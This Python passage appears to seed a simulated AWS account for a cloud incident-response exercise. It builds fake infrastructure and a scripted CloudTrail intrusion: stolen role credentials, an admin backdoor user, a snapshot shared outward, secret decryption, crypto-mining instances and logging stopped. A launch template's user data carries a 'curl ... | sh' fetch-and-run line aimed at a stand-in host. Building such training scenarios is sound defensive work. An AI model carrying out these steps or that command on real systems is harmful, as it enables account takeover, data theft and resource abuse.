            "NetworkInterfaceOwnerId": ACCOUNT, "PrivateIpAddress":
                "10.0.0.10", "PublicIpv4Pool": "amazon",
            "NetworkBorderGroup": HOME, "Tags": []}
        nip = ids.ec2("eipalloc")
        nat = ids.ec2("nat")
        reg.all("eips")[nip] = {
            "AllocationId": nip, "PublicIp": "192.0.2.45", "Domain": "vpc",
            "AssociationId": ids.ec2("eipassoc"), "PublicIpv4Pool":
                "amazon", "NetworkBorderGroup": HOME, "Tags": []}
        reg.all("nats")[nat] = {
            "NatGatewayId": nat, "VpcId": vpc, "SubnetId": subnets[0],
            "State": "available", "ConnectivityType": "public",
            "CreateTime": self.ago(days=800), "NatGatewayAddresses": [
                {"AllocationId": nip, "PublicIp": "192.0.2.45",
                 "PrivateIp": "10.0.0.5", "IsPrimary": True,
                 "Status": "succeeded",
                 "NetworkInterfaceId": ids.ec2("eni")}],
            "Tags": tags(Name="nat-a")}
        for n, s in enumerate(subnets):
            rt = ids.ec2("rtb")
            reg.all("rtbs")[rt] = {
                "RouteTableId": rt, "VpcId": vpc, "OwnerId": ACCOUNT,
                "PropagatingVgws": [], "Associations": [
                    {"Main": n == 0, "RouteTableAssociationId":
                     ids.ec2("rtbassoc"), "RouteTableId": rt,
                     "AssociationState": {"State": "associated"}} |
                    ({} if n == 0 else {"SubnetId": s})],
                "Routes": [
                    {"DestinationCidrBlock": "10.0.0.0/16", "GatewayId":
                     "local", "Origin": "CreateRouteTable",
                     "State": "active"},
                    {"DestinationCidrBlock": "0.0.0.0/0", "Origin":
                     "CreateRoute", "State": "active"} |
                    ({"GatewayId": igw} if n == 0 else
                     {"NatGatewayId": nat})], "Tags": []}
        for target, kind in ((vpc, "VPC"), (w["NetworkInterfaces"][0][
                "NetworkInterfaceId"], "NetworkInterface")):
            fl = ids.ec2("fl")
            reg.all("flowlogs")[fl] = {
                "FlowLogId": fl, "ResourceId": target, "FlowLogStatus":
                    "ACTIVE", "TrafficType": "ALL", "CreationTime":
                    self.ago(days=300), "DeliverLogsStatus": "SUCCESS",
                "LogDestinationType": "s3" if kind == "VPC" else
                "cloud-watch-logs", "LogFormat": "${version} ${account-id} "
                "${interface-id} ${srcaddr} ${dstaddr} ${srcport} "
                "${dstport} ${protocol} ${packets} ${bytes} ${start} ${end} "
                "${action} ${log-status}", "MaxAggregationInterval": 600,
                "Tags": []} | (
                    {"LogDestination": "arn:aws:s3:::northwind-logs/vpc"}
                    if kind == "VPC" else
                    {"LogGroupName": "/vpc/web-01", "LogDestination":
                     "arn:aws:logs:%s:%s:log-group:/vpc/web-01" % (
                         HOME, ACCOUNT), "DeliverLogsPermissionArn":
                     "arn:aws:iam::%s:role/app-01-role" % ACCOUNT})
        ep = ids.ec2("vpce")
        reg.all("endpoints")[ep] = {
            "VpcEndpointId": ep, "VpcEndpointType": "Gateway",
            "VpcId": vpc, "ServiceName": "com.amazonaws.us-east-1.s3",
            "State": "available", "PolicyDocument": json.dumps(
                doc({"Effect": "Allow", "Principal": "*", "Action": "*",
                     "Resource": "*"})), "RouteTableIds":
                list(reg.all("rtbs")), "SubnetIds": [], "Groups": [],
            "PrivateDnsEnabled": False, "NetworkInterfaceIds": [],
            "DnsEntries": [], "OwnerId": ACCOUNT, "Tags": [],
            "CreationTimestamp": self.ago(days=700)}
        lt = self.template = ids.ec2("lt")
        versions = []
        for n, ud in ((1, user_data), (2, user_data + "curl -fsSL "
                                       "https://cdn.example.net/m.sh|sh\n")):
            versions.append({
                "LaunchTemplateId": lt, "LaunchTemplateName":
                    "web-frontend", "VersionNumber": n,
                "VersionDescription": ("initial", "hotfix")[n - 1],
                "CreateTime": self.ago(days=100) if n == 1 else
                self.ago(hours=22), "CreatedBy":
                    "arn:aws:iam::%s:user/%s" % (
                        ACCOUNT, ("automation/ci-deployer",
                                  "svc-metrics")[n - 1]),
                "DefaultVersion": n == 2, "LaunchTemplateData": {
                    "ImageId": ami, "InstanceType": "m5d.large",
                    "KeyName": "web-2025", "SecurityGroupIds": [web],
                    "IamInstanceProfile": {"Name": "web-frontend-role"},
                    "UserData": base64.b64encode(ud.encode()).decode()}})
        reg.all("templates")[lt] = {
            "LaunchTemplateId": lt, "LaunchTemplateName": "web-frontend",
            "CreateTime": self.ago(days=100), "CreatedBy":
                versions[0]["CreatedBy"], "DefaultVersionNumber": 2,
            "LatestVersionNumber": 2, "Tags": [],
            "_versions": versions[::-1]}
        w["Tags"] += [{"Key": "aws:ec2launchtemplate:id", "Value": lt},
                      {"Key": "aws:ec2launchtemplate:version",
                       "Value": "1"}]
        self.instance(HOME, net, "web-02", "m5d.large", ami, ip="10.0.0.11",
                      groups=(web,), role="web-frontend-role", zone="b",
                      key="web-2025", user_data=user_data,
                      tag=tags(app="web", env="production"))
        self.instance(HOME, net, "db-01", "c5.xlarge", base, zone="b",
                      ip="10.0.1.20", groups=(db,), kms=kms,
                      disks=((8, True), (100, False), (100, False)))
        for n in range(1, 29):
            self.instance(HOME, net, "batch-%02d" % n, "t3.medium", base,
                          zone="ab"[n % 2], ip="10.0.%d.%d" % (n % 2,
                                                               100 + n),
                          groups=(batch,), role="batch-worker-role",
                          disks=((8, True), (16, False)),
                          state="running" if n % 7 else "stopped",
                          launched=self.ago(days=60 - n))
        for n in range(8):
            self.volume(HOME, "ab"[n % 2], 50 + n,
                        tags(Name="old-%02d" % n))
        vols = list(reg.all("volumes").values())
        for v in vols[:45]:
            for d in (1, 8):
                self.snapshot(HOME, v, d, "daily backup of " +
                              v["VolumeId"], tags(backup="daily"))
        self.data_volume = w["BlockDeviceMappings"][1]["Ebs"]["VolumeId"]
        self.root_volume = w["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
        sh = self.shared = self.snapshot(
            HOME, reg.all("volumes")[self.data_volume], 0, "tmp")
        sh["StartTime"] = self.ago(hours=20)
        sh["CompletionTime"] = self.ago(hours=19, minutes=55)
        sh["_shared"] = [{"UserId": FOREIGN}]
        pair = reg.all("volumes")[self.root_volume]
        mine = [s for s in reg.all("snapshots").values()
                if s["VolumeId"] == pair["VolumeId"]]
        self.pair = (mine[1]["SnapshotId"], mine[0]["SnapshotId"])
        self.miners = []
        for region, n in (("eu-north-1", 3), ("ap-southeast-2", 2)):
            net2 = self.network(region, "172.31")
            img = self.image(region, "al2023-ami-2023.9.20260401-x86_64",
                             200, "137112412989")
            for k in range(n):
                i = self.instance(region, net2, "", "g5.12xlarge", img,
                                  ip="172.31.0.%d" % (50 + k),
                                  public="192.0.2.%d" % (100 + 10 * n + k),
                                  launched=self.ago(hours=18),
                                  key="tmp-access")
                i["Tags"] = []
                self.miners.append((region, i["InstanceId"]))
        for region in ("eu-west-1", "us-west-2", "us-east-2"):
            self.network(region, "172.31")
        img = self.image("eu-west-1", "bastion-3", 90)
        net3 = list(self.acct.regions["eu-west-1"].all("vpcs"))
        self.instance("eu-west-1", (net3[0], list(
            self.acct.regions["eu-west-1"].all("subnets")), None,
            list(self.acct.regions["eu-west-1"].all("groups"))[0]),
            "bastion", "t3.small", img, ip="172.31.0.7")

    # --------------------------------------------------------------- events

    def who(self, user=None, key=None, role=None, session=None, ec2=False,
            service=None, created=None, asia=None):
        if service:
            return {"type": "AWSService", "invokedBy": service}
        if user:
            u = self.acct.users[user]
            out = {"type": "IAMUser", "principalId": u["UserId"],
                   "arn": u["Arn"], "accountId": ACCOUNT,
                   "userName": user}
            if key:
                out["accessKeyId"] = key
            return out
        r = self.acct.roles[role]
        out = {"type": "AssumedRole", "principalId": "%s:%s" % (r["RoleId"],
                                                               session),
               "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCOUNT, role,
                                                              session),
               "accountId": ACCOUNT, "accessKeyId": asia,
               "sessionContext": {
                   "sessionIssuer": {
                       "type": "Role", "principalId": r["RoleId"],
                       "arn": r["Arn"], "accountId": ACCOUNT,
                       "userName": role}, "webIdFederationData": {},
                   "attributes": {"creationDate": (created or self.ago(
                       hours=27)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                       "mfaAuthenticated": "false"}}}
        if ec2:
            out["sessionContext"]["ec2RoleDelivery"] = "1.0"
        return out

    def event(self, region, when, *args, **kw):
        e = trail.make(self.ids, ACCOUNT, region, when, *args, **kw)
        self.acct.regions[region].events.append(e)
        return e

    def events(self):
        ids = self.ids
        iid = self.victim["InstanceId"]
        asia = ids.iam("ASIA")
        self.stolen = asia
        self.w.add_key(Cred(asia, ids.secret(), ACCOUNT,
                            role="web-frontend-role", session=iid,
                            token=ids.token(), created=self.ago(hours=27),
                            expires=self.ago(hours=21), ec2=True))
        web = self.who(role="web-frontend-role", session=iid, ec2=True,
                       asia=asia)
        back = self.who(user="svc-metrics", key=self.backdoor)
        bad = dict(ip=ATTACKER, agent="Boto3/1.42.7 md/Botocore#1.42.7 "
                   "ua/2.1 os/linux#6.8.0 lang/python#3.12.3")
        vol, snap = self.data_volume, self.shared["SnapshotId"]
        h = self.ago
        ev = self.event
        ev(HOME, h(hours=26, minutes=40), "ec2", "DescribeInstances", web,
           {"instancesSet": {}, "filterSet": {}}, ip="192.0.2.44",
           agent="aws-cli/2.31.0 exec-env/EC2")
        ev(HOME, h(hours=25), "sts", "GetCallerIdentity", web, **bad)
        ev(HOME, h(hours=24, minutes=58), "s3", "ListBuckets", web, **bad)
        for n in range(6):
            ev(HOME, h(hours=24, minutes=57 - n), "iam",
               ("ListUsers", "ListRoles", "GetAccountSummary", "ListPolicies",
                "ListAttachedRolePolicies", "GetAccountPasswordPolicy")[n],
               web, **bad)
        for n, r in enumerate(("us-east-1", "us-west-2", "eu-west-1",
                               "eu-central-1", "eu-north-1",
                               "ap-southeast-2", "sa-east-1",
                               "ap-south-1")):
            ev(r, h(hours=24, minutes=50, seconds=-7 * n), "ec2",
               "DescribeInstances", web, {"instancesSet": {},
                                          "filterSet": {}}, **bad)
        ev(HOME, h(hours=24, minutes=45), "secretsmanager", "ListSecrets",
           web, error="AccessDenied", message="User: %s is not authorized to "
           "perform: secretsmanager:ListSecrets because no identity-based "
           "policy allows the secretsmanager:ListSecrets action" %
           web["arn"], **bad)
        ev(HOME, h(hours=24, minutes=31), "iam", "CreateUser", web,
           {"userName": "svc-metrics"}, {"user": {
               "userName": "svc-metrics", "path": "/", "arn":
                   self.acct.users["svc-metrics"]["Arn"], "userId":
                   self.acct.users["svc-metrics"]["UserId"]}},
           resources=[("AWS::IAM::User", "svc-metrics")], **bad)
        ev(HOME, h(hours=24, minutes=30), "iam", "CreateAccessKey", web,
           {"userName": "svc-metrics"}, {"accessKey": {
               "accessKeyId": self.backdoor, "status": "Active",
               "userName": "svc-metrics"}},
           resources=[("AWS::IAM::AccessKey", self.backdoor),
                      ("AWS::IAM::User", "svc-metrics")], **bad)
        ev(HOME, h(hours=24, minutes=29), "iam", "AttachUserPolicy", web,
           {"userName": "svc-metrics", "policyArn":
            "arn:aws:iam::aws:policy/AdministratorAccess"},
           resources=[("AWS::IAM::User", "svc-metrics"),
                      ("AWS::IAM::Policy",
                       "arn:aws:iam::aws:policy/AdministratorAccess")],
           **bad)
        ev(HOME, h(hours=23, minutes=59), "ec2",
           "AuthorizeSecurityGroupIngress", back,
           {"groupId": self.web_sg, "ipPermissions": {"items": [
               {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}},
           {"_return": True}, resources=[("AWS::EC2::SecurityGroup",
                                          self.web_sg)], **bad)
        ev(HOME, h(hours=23, minutes=50), "ec2", "CreateKeyPair", back,
           {"keyName": "tmp-access", "keyType": "rsa"}, {
               "keyName": "tmp-access", "keyMaterial": "<sensitiveData"
               "Removed>"}, resources=[("AWS::EC2::KeyPair", "tmp-access")],
           **bad)
        ev(HOME, h(hours=23, minutes=40), "iam", "UpdateLoginProfile", back,
           {"userName": "report-reader"},
           resources=[("AWS::IAM::User", "report-reader")], **bad)
        ev(HOME, h(hours=23), "signin", "ConsoleLogin",
           self.who(user="report-reader"), None,
           {"ConsoleLogin": "Success"}, read=False, ip=ATTACKER,
           agent="Mozilla/5.0 (X11; Linux x86_64)",
           extra={"LoginTo": "https://console.aws.amazon.com/console/home",
                  "MobileVersion": "No", "MFAUsed": "No"})
        ev(HOME, h(hours=22), "ec2", "CreateLaunchTemplateVersion", back,
           {"CreateLaunchTemplateVersionRequest": {"LaunchTemplateId":
                                                   self.template}}, **bad)
        ev(HOME, h(hours=20), "ec2", "CreateSnapshot", back,
           {"volumeId": vol, "description": "tmp"},
           {"snapshotId": snap, "volumeId": vol, "status": "pending"},
           resources=[("AWS::EC2::Volume", vol),
                      ("AWS::EC2::Snapshot", snap)], **bad)
        ev(HOME, h(hours=19, minutes=50), "ec2", "ModifySnapshotAttribute",
           back, {"snapshotId": snap, "attributeType":
                  "CREATE_VOLUME_PERMISSION", "createVolumePermission":
                  {"add": {"items": [{"userId": FOREIGN}]}}},
           {"_return": True}, resources=[("AWS::EC2::Snapshot", snap)],
           **bad)
        ev(HOME, h(hours=19, minutes=20), "ssm", "DescribeParameters", back,
           **bad)
        ev(HOME, h(hours=19, minutes=19), "ssm", "GetParameter", back,
           {"name": "/prod/db/password", "withDecryption": True}, **bad)
        ev(HOME, h(hours=19, minutes=19, seconds=-1), "kms", "Decrypt", back,
           {"encryptionContext": {"PARAMETER_ARN": "arn:aws:ssm:%s:%s:"
                                  "parameter/prod/db/password" % (
                                      HOME, ACCOUNT)}}, read=True,
           resources=[("AWS::KMS::Key", self.kms_arn)], **bad)
        ev(HOME, h(hours=19), "iam", "CreateRole", back,
           {"roleName": "support-access"},
           resources=[("AWS::IAM::Role", "support-access")], **bad)
        for region, mid in self.miners:
            ev(region, h(hours=18), "ec2", "RunInstances", back,
               {"instancesSet": {"items": [{"minCount": 1, "maxCount": 1}]},
                "instanceType": "g5.12xlarge"},
               {"instancesSet": {"items": [{"instanceId": mid}]}},
               resources=[("AWS::EC2::Instance", mid)], **bad)
        ev("eu-north-1", h(hours=18, minutes=5), "ec2", "RunInstances", back,
           {"instanceType": "p4d.24xlarge"}, error=
           "Client.VcpuLimitExceeded", message="You have requested more "
           "vCPU capacity than your current vCPU limit of 0 allows for the "
           "instance bucket that the specified instance type belongs to.",
           **bad)
        tr = "arn:aws:cloudtrail:%s:%s:trail/management" % (HOME, ACCOUNT)
        ev(HOME, h(hours=17), "cloudtrail", "StopLogging", back,
           {"name": tr}, resources=[("AWS::CloudTrail::Trail", tr)], **bad)
        ev(HOME, h(hours=16, minutes=58), "lambda",
           "UpdateFunctionCode20150331v2", back,
           {"functionName": "report-export", "publish": False},
           resources=[("AWS::Lambda::Function", "report-export")], **bad)
        ev(HOME, h(hours=16, minutes=50), "s3", "PutBucketPolicy", back,
           {"bucketName": "northwind-assets"},
           resources=[("AWS::S3::Bucket", "northwind-assets")], **bad)
        ev(HOME, h(hours=16, minutes=40), "organizations",
           "LeaveOrganization", back, error="AccessDenied",
           message="You don't have permissions to access this resource.",
           read=False, **bad)
        adm = self.who(user="breakglass-admin", key=self.admin)
        ev(HOME, h(hours=5), "signin", "ConsoleLogin",
           self.who(user="breakglass-admin"), None,
           {"ConsoleLogin": "Success"}, read=False, ip=OFFICE,
           extra={"MFAUsed": "Yes", "MobileVersion": "No"})
        ev(HOME, h(hours=4, minutes=55), "cloudtrail", "StartLogging", adm,
           {"name": tr}, resources=[("AWS::CloudTrail::Trail", tr)],
           ip=OFFICE)
        ev(HOME, h(hours=4, minutes=50), "iam", "ListAccessKeys", adm,
           {"userName": "svc-metrics"}, ip=OFFICE)
        # the account's daily noise
        ci = self.who(user="ci-deployer", key=self.ci)
        bk = self.who(user="backup-operator", key=self.backup)
        batch = [i for i in self.home.all("instances").values()
                 if i.get("Tags") and i["Tags"][0]["Value"].startswith(
                     "batch")]
        names = (("ec2", "DescribeInstances"), ("ec2", "DescribeVolumes"),
                 ("s3", "ListBuckets"), ("sts", "GetCallerIdentity"),
                 ("ec2", "DescribeSecurityGroups"),
                 ("lambda", "ListFunctions20150331"),
                 ("kms", "DescribeKey"), ("iam", "GetRole"))
        for n in range(190):
            when = h(minutes=37 * n + ids.r.randrange(30) + 12)
            kind = n % 5
            if kind == 0:
                ev(HOME, when, "sts", "AssumeRole", self.who(
                    service="ec2.amazonaws.com"),
                    {"roleArn": self.acct.roles["batch-worker-role"]["Arn"],
                     "roleSessionName": batch[n % len(batch)]["InstanceId"]},
                    read=True, ip="ec2.amazonaws.com",
                    agent="ec2.amazonaws.com", resources=[
                        ("AWS::IAM::Role", "batch-worker-role")])
            elif kind == 1:
                v = list(self.home.all("volumes"))[n % 40]
                ev(HOME, when, "ec2", "CreateSnapshot", bk, {"volumeId": v},
                   {"snapshotId": ids.ec2("snap"), "volumeId": v},
                   resources=[("AWS::EC2::Volume", v)],
                   ip="203.0.113.80", agent="Boto3/1.40.1")
            else:
                s, name = names[n % len(names)]
                b = batch[n % len(batch)]["InstanceId"]
                ev(HOME, when, s, name, ci if kind == 2 else self.who(
                    role="batch-worker-role", session=b, ec2=True,
                    asia="ASIA" + ("%016d" % (n % 9)).replace(
                        "0", "Q").replace("1", "R").replace("8", "S")
                    .replace("9", "T")),
                   ip="203.0.113.77" if kind == 2 else "192.0.2.45",
                   agent="aws-sdk-go-v2/1.39.0")
        for r, n in (("eu-west-1", 60), ("us-west-2", 14), ("us-east-2", 7),
                     ("eu-central-1", 3), ("eu-south-1", 2)):
            for k in range(n):
                s, name = names[k % 6]
                ev(r, h(minutes=90 * k + ids.r.randrange(60) + 8), s, name,
                   ci, ip="203.0.113.77", agent="aws-sdk-go-v2/1.39.0")
        for k in range(self.extra_events):
            s, name = names[k % 4]
            ev(HOME, h(hours=30, seconds=k), s, name, ci, ip="203.0.113.77",
               agent="aws-sdk-go-v2/1.39.0")
        for reg in self.acct.regions.values():
            reg.events.sort(key=lambda e: e["EventTime"])

    # ---------------------------------------------------------- the others

    def rest(self):
        ids, reg, h = self.ids, self.home, self.ago
        tr = "arn:aws:cloudtrail:%s:%s:trail/management" % (HOME, ACCOUNT)
        reg.all("trails")[tr] = {
            "Name": "management", "TrailARN": tr, "HomeRegion": HOME,
            "S3BucketName": "northwind-logs", "S3KeyPrefix": "cloudtrail",
            "IncludeGlobalServiceEvents": True, "IsMultiRegionTrail": True,
            "LogFileValidationEnabled": True, "HasCustomEventSelectors":
                True, "HasInsightSelectors": False, "IsOrganizationTrail":
                False, "KmsKeyId": self.kms_arn, "_status": {
                    "IsLogging": True, "LatestDeliveryTime": h(minutes=4),
                    "StartLoggingTime": h(hours=4, minutes=55),
                    "StopLoggingTime": h(hours=17),
                    "LatestDigestDeliveryTime": h(minutes=40),
                    "LatestDeliveryAttemptTime": "", "LatestDeliveryError":
                        ""},
            "_selectors": [{"ReadWriteType": "All",
                            "IncludeManagementEvents": True,
                            "DataResources": [],
                            "ExcludeManagementEventSources": []}],
            "_tags": tags(owner="security")}
        one = "arn:aws:cloudtrail:eu-west-1:%s:trail/legacy" % ACCOUNT
        reg.all("trails")[one] = {
            "Name": "legacy", "TrailARN": one, "HomeRegion": "eu-west-1",
            "S3BucketName": "northwind-logs", "IncludeGlobalServiceEvents":
                False, "IsMultiRegionTrail": False,
            "LogFileValidationEnabled": False, "HasCustomEventSelectors":
                False, "HasInsightSelectors": False, "IsOrganizationTrail":
                False, "_status": {"IsLogging": False, "StopLoggingTime":
                                   h(days=400)},
            "_selectors": [{"ReadWriteType": "WriteOnly",
                            "IncludeManagementEvents": True,
                            "DataResources": [],
                            "ExcludeManagementEventSources": []}],
            "_tags": []}
        from . import svc_kms, svc_lambda, svc_organizations, svc_s3, svc_ssm
        svc_kms.seed(self)
        svc_s3.seed(self)
        svc_lambda.seed(self)
        svc_ssm.seed(self)
        svc_organizations.seed(self)


def seed(world, users=24, extra_events=0):
    s = Seeder(world, users, extra_events)
    s.iam()
    s.ec2()
    s.events()
    s.rest()
    keys = world.keys
    world.names.update(
        account=ACCOUNT, other_account=OTHERS[0][0], instance=s.victim[
            "InstanceId"], role="web-frontend-role", admin_key=s.admin,
        admin_secret=keys[s.admin].secret, responder_key=s.responder,
        responder_secret=keys[s.responder].secret, stolen_key=s.stolen,
        backdoor_key=s.backdoor, ebs_snapshot=s.pair[0],
        ebs_snapshot_older=s.pair[1], bucket="northwind-assets",
        kms_key=s.kms_key, kms_ed25519=s.kms_ed25519,
        function="report-export", quarantine=s.quarantine,
        shared_snapshot=s.shared["SnapshotId"],
        transfer_key=s.transfer_key, forensic_key=s.forensic_key,
        start=s.ago(hours=27).strftime("%Y-%m-%dT%H:%M:%SZ"))
    return s
